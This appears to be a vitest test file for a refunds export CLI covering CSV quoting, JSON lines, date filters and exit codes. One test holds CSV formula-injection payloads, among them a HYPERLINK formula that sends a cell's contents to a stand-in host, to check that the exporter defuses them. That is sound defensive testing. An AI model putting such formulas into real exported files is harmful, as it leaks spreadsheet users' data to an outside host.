import path from 'node:path';
import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { createRefundCommandHandler } from '../../src/application/handleRefundCommand.js';
import { exportColumns } from '../../src/audit/refundExportRow.js';
import {
  acceptRefund,
  failRefund,
  markSucceeded,
  requestRefund,
  retryRefund,
} from '../domain/refund/refundFixtures.js';
import { editReadModel, projectedLog } from '../support/projectedLog.js';
import { collect, spawnTs } from '../support/spawnTs.js';
import { sqliteStoresPerTest } from '../support/fixtures.js';
import { runCommand } from './captureIo.js';

/**
 * RFC 4180, strictly: records end with CRLF; a field in double quotes may hold commas, CR, LF and
 * doubled double quotes; outside quotes none of those may appear.
 */
const parseCsv = (text: string): string[][] => {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char !== '"') field += char;
      else if (text[i + 1] === '"') field += text[++i];
      else quoted = false;
    } else if (char === '"' && field === '') {
      quoted = true;
    } else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      records.push([...record, field]);
      record = [];
      field = '';
      i++;
    } else if (char === '"' || char === '\r' || char === '\n') {
      throw new Error(`unquoted ${JSON.stringify(char)} at ${i}`);
    } else {
      field += char;
    }
  }
  if (quoted || field !== '' || record.length > 0) throw new Error('the last record is not ended');
  return records;
};

const jsonLines = (text: string): unknown[] =>
  text
    .trimEnd()
    .split('\n')
    .map((line): unknown => JSON.parse(line));

const context = { correlationId: 'c', causationId: 'c', source: 'api' } as const;

const reasons = [
  '商品已退货',
  'partial, as agreed',
  'customer said "not as described"',
  'line one\nline two',
  'windows\r\nline, "both"',
];

describe('refunds export', () => {
  const stores = sqliteStoresPerTest();

  const exported = (args: string[]) => runCommand(stores.dir, ['export', ...args]);

  const request = (n: number, overrides: Parameters<typeof requestRefund>[0] = {}) =>
    createRefundCommandHandler({ events: stores.events })(
      requestRefund({ outRefundNo: `R${n}`, outTradeNo: `T${n}`, ...overrides }),
      context,
    );

  it('given reasons with commas, quotes, newlines and Chinese text, when exported as CSV, then an RFC 4180 parser reads them back exactly', async () => {
    for (const [n, reason] of reasons.entries()) await request(n, { reason });

    const run = await exported(['--format', 'csv']);

    expect(run.code).toBe(0);
    const [header, ...rows] = parseCsv(run.stdout);
    expect(header).toEqual([...exportColumns]);
    const column = (name: (typeof exportColumns)[number]) => exportColumns.indexOf(name);
    expect(rows.map((row) => row[column('reason')])).toEqual(reasons);
    expect(rows.map((row) => row[column('outRefundNo')])).toEqual(['R0', 'R1', 'R2', 'R3', 'R4']);
    expect(rows[0]![column('refundFee')]).toBe('1990');
    expect(rows[0]![column('refundId')]).toBe('');
    expect(run.stdout).toContain(',"customer said ""not as described""",');
    expect(run.stdout.startsWith('\ufeff')).toBe(false);
    expect(run.stderr).toBe('Exported 5 refunds\n');
  });

  it('given values a spreadsheet would run as formulas, when exported as CSV, then each gets a leading quote (OWASP), in every column; JSON lines keep them as they are', async () => {
    const formulas = [
      '=HYPERLINK("http://x.example/?"&A1,"details")',
      '+1+2',
      '-2+3',
      '@SUM(1)',
      '\tindented',
      '\r=1+1',
    ];
    for (const [n, reason] of formulas.entries()) await request(n, { reason });
    await request(6, { outRefundNo: '-R6', outTradeNo: '@T6', reason: 'a -1 inside is fine' });

    const csv = await exported(['--format', 'csv']);
    const jsonl = await exported(['--format', 'jsonl']);

    const [, ...rows] = parseCsv(csv.stdout);
    const column = (name: (typeof exportColumns)[number]) => exportColumns.indexOf(name);
    expect(rows.map((row) => row[column('reason')])).toEqual([
      ...formulas.map((reason) => `'${reason}`),
      'a -1 inside is fine',
    ]);
    expect(rows[6]![column('outRefundNo')]).toBe("'-R6");
    expect(rows[6]![column('outTradeNo')]).toBe("'@T6");
    expect(rows[6]![column('refundFee')]).toBe('1990');
    const lines = jsonLines(jsonl.stdout).map((row) =>
      z.object({ outRefundNo: z.string(), reason: z.string() }).parse(row),
    );
    expect(lines.map((row) => row.reason)).toEqual([...formulas, 'a -1 inside is fine']);
    expect(lines[6]!.outRefundNo).toBe('-R6');
  });

  it('given --bom, then the CSV starts with the UTF-8 byte order mark (for Excel)', async () => {
    await request(1);

    const run = await exported(['--format', 'csv', '--bom']);

    expect(run.stdout.startsWith(`\ufeff${exportColumns.join(',')}\r\n`)).toBe(true);
  });

  it('given refunds failed, retried and settled, then each row is the final state with its timestamps', async () => {
    const handle = createRefundCommandHandler({ events: stores.events });
    await request(1);
    await handle(failRefund('request', 'NOTENOUGH', { outRefundNo: 'R1' }), context);
    await handle(retryRefund('2026-11-28T09:00:00.000Z'), { ...context });
    await request(2, { refundFee: 100 });
    await handle(acceptRefund({ outRefundNo: 'R2', refundFee: 100, refundId: 'W2' }), context);
    await handle(failRefund('settlement', 'REFUNDCLOSE', { outRefundNo: 'R2' }), context);
    await handle(markSucceeded({ outRefundNo: 'R1', refundId: 'W1' }), context);

    const run = await exported(['--format', 'jsonl']);

    expect(run.code).toBe(0);
    const lines = jsonLines(run.stdout);
    expect(lines).toEqual([
      {
        outRefundNo: 'R1',
        outTradeNo: 'T1',
        transactionId: '4200000001201811190001234567',
        refundId: 'W1',
        status: 'SUCCEEDED',
        totalFee: 3960,
        refundFee: 1990,
        settlementRefundFee: 1990,
        refundRecvAccount: '支付用户零钱',
        attempt: 2,
        origin: 'api',
        reason: '商品已退货',
        requestedAt: '2026-11-28T08:00:00.000Z',
        updatedAt: '2026-11-28T08:05:00.000Z',
        settledAt: '2026-11-28T08:05:00.000Z',
        successTime: '2018-11-19T16:24:13+08:00',
        failureStage: null,
        failureCode: null,
        failureMessage: null,
        events: 4,
        refundAccount: null,
      },
      expect.objectContaining({
        outRefundNo: 'R2',
        status: 'FAILED',
        refundId: 'W2',
        settledAt: '2026-11-28T08:05:00.000Z',
        failureStage: 'settlement',
        failureCode: 'REFUNDCLOSE',
        failureMessage: 'REFUNDCLOSE happened',
        successTime: null,
      }),
    ]);
  });

  it('given a refund retried from the recharge funds, then its row names the funds of that attempt, in the last column', async () => {
    const handle = createRefundCommandHandler({ events: stores.events });
    await request(1, { refundAccount: 'REFUND_SOURCE_UNSETTLED_FUNDS' });
    await handle(failRefund('request', 'NOTENOUGH', { outRefundNo: 'R1' }), context);
    await handle(
      retryRefund('2026-11-28T09:00:00.000Z', { refundAccount: 'REFUND_SOURCE_RECHARGE_FUNDS' }),
      context,
    );

    const [header, row] = parseCsv((await exported(['--format', 'csv'])).stdout);

    expect(header?.at(-1)).toBe('refundAccount');
    expect(row?.at(-1)).toBe('REFUND_SOURCE_RECHARGE_FUNDS');
  });

  it('given --from and --to, then refunds are chosen by the China-time date of requestedAt, both ends included', async () => {
    const times = [
      '2026-10-31T15:59:59.999Z', // 2026-10-31 23:59:59.999 in China
      '2026-10-31T16:00:00.000Z', // 2026-11-01 00:00 in China
      '2026-11-01T15:59:59.999Z', // 2026-11-01 23:59:59.999 in China
      '2026-11-01T16:00:00.000Z', // 2026-11-02 00:00 in China
    ];
    for (const [n, requestedAt] of times.entries()) await request(n, { requestedAt });

    const day = await exported(['--format', 'jsonl', '--from', '2026-11-01', '--to', '2026-11-01']);
    const from = await exported(['--format', 'jsonl', '--from', '2026-11-01']);
    const to = await exported(['--format', 'jsonl', '--to', '2026-10-31']);

    const numbers = (run: { stdout: string }) =>
      jsonLines(run.stdout).map(
        (row) => z.object({ outRefundNo: z.string() }).parse(row).outRefundNo,
      );
    expect(numbers(day)).toEqual(['R1', 'R2']);
    expect(numbers(from)).toEqual(['R1', 'R2', 'R3']);
    expect(numbers(to)).toEqual(['R0']);
  });

  it('given a read model edited by hand, then the export still says what the log says', async () => {
    await stores.events.close();
    const log = await projectedLog(stores.dir, 10);
    stores.events = log.events;
    const before = await exported(['--format', 'csv']);
    editReadModel(
      stores.dir,
      `UPDATE doc_refund_view_g1 SET body = json_set(body, '$.refundFee', 1)`,
    );

    expect((await exported(['--format', 'csv'])).stdout).toBe(before.stdout);
    await log.documents.close();
  });

  it('given an event that does not decode, then exit 1, a message naming it, and no rows at all', async () => {
    await request(1);
    await stores.events.append(
      'refund-R1',
      [{ id: randomUUID(), type: 'RefundAccepted', data: {}, metadata: {} }],
      0n,
    );

    const run = await exported(['--format', 'csv']);

    expect(run.code).toBe(1);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain('event 1 of refund-R1 is not a valid refund event');
  });

  it('given the CLI, then CSV on stdout alone; a bad command line is usage (64), a missing store 2', async () => {
    await request(1, { reason: 'a, b' });
    const csv = await collect(
      spawnTs('src/cli/refunds.ts', ['export', '--format', 'csv'], {
        DATA_DIR: stores.dir,
        LOG_LEVEL: 'silent',
      }),
    ).completion;
    expect(csv.code, csv.stderr).toBe(0);
    expect(parseCsv(csv.stdout)[1]).toContain('a, b');

    // The same command line in-process (the process adds nothing but its streams).
    expect((await exported([])).code).toBe(64);
    expect((await exported(['--format', 'jsonl', '--bom'])).code).toBe(64);
    expect((await exported(['--format', 'csv', '--from', '2026-13-01'])).code).toBe(64);
    const missing = await runCommand(path.join(stores.dir, 'none'), ['export', '--format', 'csv']);
    expect(missing.code).toBe(2);
  });
});
